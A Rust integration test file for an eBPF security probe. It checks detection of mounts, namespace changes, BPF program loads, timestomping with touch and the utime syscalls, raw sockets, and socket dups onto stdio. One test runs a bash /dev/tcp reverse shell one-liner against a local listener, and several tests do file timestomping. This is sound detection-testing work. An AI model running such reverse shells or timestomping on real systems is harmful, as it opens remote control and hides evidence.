//! Security events about the system: mounts, namespaces (util-linux and a real containerd
//! container), kernel modules (skipped on this kernel, which has no module support), BPF
//! program loads, timestomping (touch), and sockets in odd places (a reverse shell's dup of a
//! socket onto stdio, raw and packet sockets).
use std::{
    ffi::CString,
    io::{Read as _, Write as _},
    net::TcpListener,
    path::PathBuf,
    process::{Command, Stdio},
    time::{Duration, SystemTime, UNIX_EPOCH},
};

use serde_json::{json, Value};
use tprobe_tests::{
    containerd::{unique, Containerd, IMAGE},
    is, Probe, WAIT,
};

fn want(probe: &Probe, what: &str, pred: impl Fn(&Value) -> bool) -> Value {
    probe
        .wait_for(WAIT, pred)
        .unwrap_or_else(|| panic!("no {what}"))
}

fn run(cmd: &mut Command) -> u32 {
    let child = cmd.stdin(Stdio::null()).spawn().expect("spawn");
    let pid = child.id();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{cmd:?}: {:?}", out.status);
    pid
}

fn python(code: &str, args: &[&str]) -> u32 {
    run(Command::new("python3")
        .arg("-c")
        .arg(format!(
            "import ctypes, os, sys, socket\nlibc = ctypes.CDLL(None, use_errno=True)\n{code}"
        ))
        .args(args))
}

fn tmpdir(tag: &str) -> PathBuf {
    let d = PathBuf::from(format!("/tmp/tprobe-sec-{}-{tag}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

#[test]
fn mount_and_umount_with_flags_and_an_unreadable_source() {
    let probe = Probe::start(&["--events", "file.mount,file.umount"]);
    let dir = tmpdir("mnt");
    let d = dir.to_str().unwrap();
    let m = run(Command::new("mount").args(["-t", "tmpfs", "-o", "nosuid,nodev", "tprobe-t17", d]));
    let ev = want(&probe, "file.mount", |v| is(v, "file.mount", m));
    assert_eq!(
        ev["mount"],
        json!({"syscall": "mount", "source": "tprobe-t17", "target": d, "fstype": "tmpfs",
               "flags": ["MS_NOSUID", "MS_NODEV"]})
    );
    assert_eq!(ev["file"]["path"], d);
    assert_eq!(ev["result"], json!({"ok": true}));
    let u = run(Command::new("umount").args(["-l", d]));
    let ev = want(&probe, "file.umount", |v| is(v, "file.umount", u));
    assert_eq!(
        ev["mount"],
        json!({"syscall": "umount2", "target": d, "flags": ["MNT_DETACH"]})
    );
    // A source pointer that is not mapped: the call fails, the event comes, source flagged.
    let p = python(
        "assert libc.mount(ctypes.c_void_p(8), sys.argv[1].encode(), b'tmpfs', 0, None) == -1",
        &[d],
    );
    let ev = want(&probe, "mount with a bad pointer", |v| {
        is(v, "file.mount", p)
    });
    assert_eq!(ev["result"]["error"], "EFAULT");
    assert_eq!(ev["mount"]["source_unreadable"], true);
    assert!(ev["mount"].get("source").is_none(), "{ev}");
    assert_eq!(ev["mount"]["target"], d);
    assert_eq!(ev["mount"]["fstype"], "tmpfs");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn unshare_and_setns_name_the_namespaces() {
    let probe = Probe::start(&["--events", "process.unshare,process.setns"]);
    let u = run(Command::new("unshare").args(["-n", "-u", "true"]));
    let ev = want(&probe, "process.unshare", |v| is(v, "process.unshare", u));
    assert_eq!(ev["ns"]["flags"], json!(["CLONE_NEWUTS", "CLONE_NEWNET"]));
    assert_eq!(ev["result"], json!({"ok": true}));
    let mut holder = Command::new("unshare")
        .args(["-n", "sleep", "30"])
        .spawn()
        .unwrap();
    // Let the holder reach its new namespace.
    std::thread::sleep(Duration::from_millis(300));
    let n = run(Command::new("nsenter").args(["-t", &holder.id().to_string(), "-n", "true"]));
    let ev = want(&probe, "process.setns", |v| is(v, "process.setns", n));
    assert_eq!(ev["ns"]["flags"], json!(["CLONE_NEWNET"]));
    assert!(ev["ns"]["fd"].as_i64().unwrap() >= 0);
    assert_eq!(ev["result"], json!({"ok": true}));
    let _ = holder.kill();
    let _ = holder.wait();
}

#[test]
fn a_containerd_container_mounts_and_unshares() {
    let ctrd = Containerd::start();
    let sock = ctrd.sock.to_str().unwrap().to_owned();
    let probe = Probe::start(&[
        "--events",
        "process.exec,process.unshare,process.setns,file.mount",
        "--cri-socket",
        &sock,
        "--containerd-socket",
        &sock,
        "--containerd-namespace",
        &ctrd.ns,
        "--docker-socket",
        "none",
    ]);
    let id = unique("tprobe-sec");
    ctrd.ctr(
        &ctrd.ns,
        &["run", "-d", IMAGE, &id, "sh", "-c", "exec sleep 600"],
    );
    // runc makes the container's namespaces, then mounts its /proc inside them.
    let un = want(&probe, "runc's unshare", |v| {
        v["kind"] == "process.unshare"
            && v["process"]["comm"]
                .as_str()
                .is_some_and(|c| c.starts_with("runc"))
            && v["ns"]["flags"].as_array().is_some_and(|f| {
                f.contains(&json!("CLONE_NEWNS")) && f.contains(&json!("CLONE_NEWPID"))
            })
    });
    assert_eq!(un["result"]["ok"], true);
    // runc mounts through /proc/self/fd/N paths: the target is that.
    let proc_mount = want(&probe, "the container's /proc mount", |v| {
        v["kind"] == "file.mount"
            && v["mount"]["fstype"] == "proc"
            && v["mount"]["source"] == "proc"
            && v["process"]["comm"]
                .as_str()
                .is_some_and(|c| c.starts_with("runc"))
    });
    assert_eq!(proc_mount["result"]["ok"], true);
    ctrd.remove(&id);
}

#[test]
fn module_hooks_are_skipped_on_a_kernel_without_modules() {
    let probe = Probe::start(&["--events", "kernel"]);
    let start = probe.lines().into_iter().next().unwrap();
    let hooks = start["probe"]["hooks"].as_array().unwrap().clone();
    let has_modules = std::path::Path::new("/proc/modules").exists();
    for tp in ["init_module", "finit_module", "delete_module"] {
        for side in ["enter", "exit"] {
            let name = format!("tracepoint/syscalls/sys_{side}_{tp}");
            let h = hooks
                .iter()
                .find(|h| h["hook"] == name.as_str())
                .unwrap_or_else(|| panic!("{name} not in probe.start"));
            if has_modules {
                assert_eq!(h["attached"], true, "{h}");
            } else {
                assert_eq!(h["attached"], false, "{h}");
                let r = h["reason"].as_str().unwrap();
                assert!(r.contains("does not exist on this kernel"), "{r}");
                assert!(r.contains("without module support"), "{r}");
            }
        }
    }
    let st = probe.stop();
    assert!(st.status.success(), "{}", st.stderr);
}

/// `bpf(BPF_PROG_LOAD)` of `r0 = 2; exit` (XDP_PASS) as `name`, with `insns` instructions
/// (0 makes the kernel refuse it). Returns the fd or -errno.
fn prog_load(name: &str, insns: u32) -> i64 {
    let code: [u8; 16] = [0xb7, 0, 0, 0, 2, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0];
    let license = CString::new("GPL").unwrap();
    let mut attr = [0u8; 128];
    attr[0..4].copy_from_slice(&6u32.to_ne_bytes()); // BPF_PROG_TYPE_XDP
    attr[4..8].copy_from_slice(&insns.to_ne_bytes());
    attr[8..16].copy_from_slice(&(code.as_ptr() as u64).to_ne_bytes());
    attr[16..24].copy_from_slice(&(license.as_ptr() as u64).to_ne_bytes());
    attr[48..48 + name.len()].copy_from_slice(name.as_bytes());
    // SAFETY: the kernel reads at most 128 bytes of a valid buffer.
    let r = unsafe { libc::syscall(libc::SYS_bpf, 5, attr.as_ptr(), attr.len() as u32) };
    if r < 0 {
        -(std::io::Error::last_os_error().raw_os_error().unwrap_or(0) as i64)
    } else {
        unsafe { libc::close(r as i32) };
        r
    }
}

#[test]
fn bpf_program_loads_loaded_or_refused_but_not_the_probes_own() {
    let probe = Probe::start(&["--events", "bpf"]);
    assert!(prog_load("tprobe_t17", 2) >= 0);
    assert_eq!(prog_load("tprobe_t17_bad", 0), -(libc::E2BIG as i64));
    let me = std::process::id();
    let ok = want(&probe, "bpf.load", |v| {
        is(v, "bpf.load", me) && v["bpf"]["prog_name"] == "tprobe_t17"
    });
    assert_eq!(
        ok["bpf"],
        json!({"command": "BPF_PROG_LOAD", "prog_type": "BPF_PROG_TYPE_XDP",
               "prog_name": "tprobe_t17", "insn_count": 2, "attach_type": 0})
    );
    assert_eq!(ok["result"]["ok"], true);
    assert!(ok["result"]["fd"].as_i64().unwrap() >= 0);
    let bad = want(&probe, "refused bpf.load", |v| {
        is(v, "bpf.load", me) && v["bpf"]["prog_name"] == "tprobe_t17_bad"
    });
    assert_eq!(bad["result"]["error"], "E2BIG");
    // A real loader: bpftrace.
    let bt = Command::new("bpftrace")
        .args(["-e", "BEGIN { exit(); }"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let btp = bt.id();
    let _ = bt.wait_with_output();
    want(&probe, "bpftrace's loads", |v| {
        is(v, "bpf.load", btp) && v["result"]["ok"] == true
    });
    let pid = probe.pid();
    let st = probe.stop();
    assert!(
        !st.lines.iter().any(|v| is(v, "bpf.load", pid)),
        "the probe's own loads are not reported"
    );
}

fn rfc3339(t: SystemTime) -> String {
    let d = t.duration_since(UNIX_EPOCH).unwrap();
    let secs = d.as_secs() as i64;
    let (days, rem) = (secs.div_euclid(86_400), secs.rem_euclid(86_400));
    // Civil date from days since the epoch (Howard Hinnant's algorithm).
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}.{:09}Z",
        rem / 3600,
        rem / 60 % 60,
        rem % 60,
        d.subsec_nanos()
    )
}

#[test]
fn timestomping_with_touch_and_every_utime_syscall() {
    let probe = Probe::start(&["--events", "file.utime"]);
    let dir = tmpdir("utime");
    let f = dir.join("victim");
    let refp = dir.join("reference");
    std::fs::write(&f, b"x").unwrap();
    std::fs::write(&refp, b"y").unwrap();
    let fp = f.to_str().unwrap().to_owned();
    // touch -d: an absolute date (in UTC here), both times.
    let t = run(Command::new("touch")
        .env("TZ", "UTC")
        .args(["-d", "2001-01-01"])
        .arg(&f));
    let ev = want(&probe, "touch -d", |v| is(v, "file.utime", t));
    assert_eq!(ev["file"]["path"], fp.as_str());
    assert_eq!(ev["file"]["path_resolved"], true);
    assert_eq!(
        ev["times"],
        json!({"atime": "2001-01-01T00:00:00.000000000Z", "mtime": "2001-01-01T00:00:00.000000000Z"})
    );
    assert_eq!(ev["result"], json!({"ok": true}));
    // touch -r: the reference file's times, to the nanosecond; from a relative path.
    let md = std::fs::metadata(&refp).unwrap();
    let r = run(Command::new("touch")
        .current_dir(&dir)
        .args(["-r", "reference", "victim"]));
    let ev = want(&probe, "touch -r", |v| is(v, "file.utime", r));
    assert_eq!(ev["file"]["path"], fp.as_str());
    assert_eq!(ev["times"]["atime"], rfc3339(md.accessed().unwrap()));
    assert_eq!(ev["times"]["mtime"], rfc3339(md.modified().unwrap()));
    // The older syscalls, called directly; a NULL times pointer means "now"; UTIME_OMIT.
    let p = python(
        "class tv(ctypes.Structure):\n    _fields_ = [('s', ctypes.c_long), ('u', ctypes.c_long)]\n\
         path = sys.argv[1].encode()\n\
         assert libc.syscall(235, path, (tv * 2)((1, 5), (2, 6))) == 0\n\
         assert libc.syscall(261, -100, path, (tv * 2)((3, 0), (4, 0))) == 0\n\
         assert libc.syscall(132, path, (ctypes.c_long * 2)(5, 6)) == 0\n\
         assert libc.syscall(132, path, None) == 0\n\
         ts = (ctypes.c_long * 4)(7, 0, 0, (1 << 30) - 2)\n\
         assert libc.syscall(280, -100, path, ts, 0) == 0\n\
         assert libc.syscall(280, -100, path, ctypes.c_void_p(8), 0) == -1",
        &[&fp],
    );
    let evs = probe.wait_n(WAIT, 6, |v| is(v, "file.utime", p));
    let got: Vec<(Value, Value, Value)> = evs
        .iter()
        .map(|v| {
            (
                v["file"]["syscall"].clone(),
                v["times"].clone(),
                v["result"]["error"].clone(),
            )
        })
        .collect();
    let tm = |a: &str, m: &str| json!({"atime": a, "mtime": m});
    assert_eq!(
        got,
        vec![
            (
                json!("utimes"),
                tm(
                    "1970-01-01T00:00:01.000005000Z",
                    "1970-01-01T00:00:02.000006000Z"
                ),
                Value::Null
            ),
            (
                json!("futimesat"),
                tm(
                    "1970-01-01T00:00:03.000000000Z",
                    "1970-01-01T00:00:04.000000000Z"
                ),
                Value::Null
            ),
            (
                json!("utime"),
                tm(
                    "1970-01-01T00:00:05.000000000Z",
                    "1970-01-01T00:00:06.000000000Z"
                ),
                Value::Null
            ),
            (json!("utime"), tm("now", "now"), Value::Null),
            (
                json!("utimensat"),
                tm("1970-01-01T00:00:07.000000000Z", "omit"),
                Value::Null
            ),
            (json!("utimensat"), Value::Null, json!("EFAULT")),
        ]
    );
    for v in &evs {
        assert_eq!(v["file"]["path"], fp.as_str(), "{v}");
    }
    // The bad pointer's event says so; the readable ones do not.
    let flags: Vec<&Value> = evs.iter().map(|v| &v["times_unreadable"]).collect();
    assert_eq!(flags[..5], [&Value::Null; 5]);
    assert_eq!(flags[5], &json!(true));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn reverse_shell_dups_the_socket_onto_stdio() {
    let probe = Probe::start(&["--events", "process.dup"]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || {
        let (mut s, peer) = listener.accept().unwrap();
        s.write_all(b"echo tprobe-$((6*7)); exit\n").unwrap();
        let mut out = String::new();
        let _ = s.read_to_string(&mut out);
        (peer, out)
    });
    let sh = Command::new("bash")
        .arg("-c")
        .arg(format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"))
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let _ = sh.wait_with_output();
    let (peer, out) = server.join().unwrap();
    assert!(out.contains("tprobe-42"), "the shell ran: {out:?}");
    // bash opens the socket, then moves it onto 1 (>&), 2 (>&) and 0 (0>&1), in the child it
    // forks for the command (the interactive shell's own start-up files move it again, in
    // processes of their own).
    let cmdline = format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1");
    let evs = probe.wait_n(WAIT, 3, |v| {
        v["kind"] == "process.dup"
            && v["net"]["dst"]["port"] == port
            && v["process"]["args"][2] == cmdline.as_str()
    });
    let mut fds: Vec<i64> = evs
        .iter()
        .map(|v| v["dup"]["newfd"].as_i64().unwrap())
        .collect();
    fds.sort();
    assert_eq!(fds, vec![0, 1, 2], "{evs:?}");
    for v in &evs {
        assert_eq!(v["net"]["transport"], "tcp");
        assert_eq!(v["net"]["dst"], json!({"ip": "127.0.0.1", "port": port}));
        assert_eq!(v["net"]["src"]["port"], peer.port());
        assert_eq!(v["result"], json!({"ok": true}));
    }
    // The other two ways onto stdio: dup3 (Python's dup2 with inheritable=False) onto 1, and
    // fcntl(F_DUPFD) into the lowest free fd, 2 once it is closed.
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let server = std::thread::spawn(move || listener.accept().map(|_| ()));
    let py = python(
        "import fcntl\n\
         s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))\n\
         os.dup2(s.fileno(), 1, inheritable=False)\n\
         os.close(2)\n\
         assert fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 0) == 2",
        &[&port.to_string()],
    );
    server.join().unwrap().unwrap();
    let evs = probe.wait_n(WAIT, 2, |v| {
        is(v, "process.dup", py) && v["net"]["dst"]["port"] == port
    });
    let mut fds: Vec<i64> = evs
        .iter()
        .map(|v| v["dup"]["newfd"].as_i64().unwrap())
        .collect();
    fds.sort();
    assert_eq!(fds, vec![1, 2], "{evs:?}");
    // A file moved onto stdout is not a socket: nothing.
    let dir = tmpdir("dup");
    let quiet = run(Command::new("bash")
        .arg("-c")
        .arg(format!("exec 5>{}/out; exec 1>&5; echo x", dir.display())));
    std::thread::sleep(Duration::from_millis(300));
    let st = probe.stop();
    assert!(!st.lines.iter().any(|v| is(v, "process.dup", quiet)));
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn raw_and_packet_sockets_only() {
    let probe = Probe::start(&["--events", "net.socket"]);
    let p = python(
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))\n\
         socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n\
         socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)\n\
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0806))\n\
         try:\n    socket.socket(socket.AF_INET, socket.SOCK_RAW, 300)\nexcept OSError:\n    pass",
        &[],
    );
    let evs = probe.wait_n(WAIT, 5, |v| is(v, "net.socket", p));
    let got: Vec<(Value, Value, Value, Value)> = evs
        .iter()
        .map(|v| {
            let n = &v["net"];
            (
                n["family"].clone(),
                n["socket_type"].clone(),
                n["protocol"].clone(),
                v["result"]["ok"].clone(),
            )
        })
        .collect();
    assert_eq!(
        got,
        vec![
            (
                json!("packet"),
                json!("raw"),
                json!("ETH_P_ALL"),
                json!(true)
            ),
            (
                json!("ipv4"),
                json!("raw"),
                json!("IPPROTO_ICMP"),
                json!(true)
            ),
            (
                json!("ipv6"),
                json!("raw"),
                json!("IPPROTO_ICMPV6"),
                json!(true)
            ),
            (
                json!("packet"),
                json!("dgram"),
                json!("ETH_P_ARP"),
                json!(true)
            ),
            (json!("ipv4"), json!("raw"), json!("300"), json!(false)),
        ],
        "the UDP socket is not reported"
    );
    assert!(evs[0]["result"]["fd"].as_i64().unwrap() >= 3);
}

/// Security kinds of real activity, in ECS and OCSF, against the vendored definitions.
fn conforming(format: &str, check: fn(&Value) -> Vec<String>) {
    let code = |v: &Value| {
        if format == "ecs" {
            v["event"]["action"].clone()
        } else {
            v["metadata"]["event_code"].clone()
        }
    };
    let probe = Probe::start_ready(
        &[
            "--events",
            "process.setgid,process.signal,process.memfd,file.mount,file.umount,file.utime,net.socket,bpf",
            "--format",
            format,
        ],
        match format {
            "ecs" => |v: &Value| v["event"]["action"] == "probe.start",
            _ => |v: &Value| v["metadata"]["event_code"] == "probe.start",
        },
    );
    let dir = tmpdir(&format!("fmt-{format}"));
    let d = dir.to_str().unwrap();
    run(Command::new("mount").args(["-t", "tmpfs", "tprobe-fmt", d]));
    run(Command::new("umount").arg(d));
    run(Command::new("touch")
        .args(["-d", "2001-01-01"])
        .arg(dir.join("f")));
    run(Command::new("setpriv").args(["--regid", "1000", "--clear-groups", "true"]));
    python(
        "os.memfd_create('fmt')\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)",
        &[],
    );
    assert!(prog_load("tprobe_fmt", 2) >= 0);
    let mut s = Command::new("sleep").arg("30").spawn().unwrap();
    run(Command::new("kill").arg(s.id().to_string()));
    let _ = s.wait();
    let want = [
        "process.setgid",
        "process.signal",
        "process.memfd",
        "file.mount",
        "file.umount",
        "file.utime",
        "net.socket",
        "bpf.load",
    ];
    for k in want {
        probe
            .wait_for(WAIT, |v| code(v) == k)
            .unwrap_or_else(|| panic!("{format}: no {k}"));
    }
    let st = probe.stop();
    for v in &st.lines {
        let errs = check(v);
        assert!(errs.is_empty(), "{format}: {errs:?} in {v}");
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn security_kinds_conform_to_ecs_and_ocsf() {
    use probe_user::encode::schema_check::{check_ecs, check_ocsf};
    conforming("ecs", check_ecs);
    conforming("ocsf", check_ocsf);
}
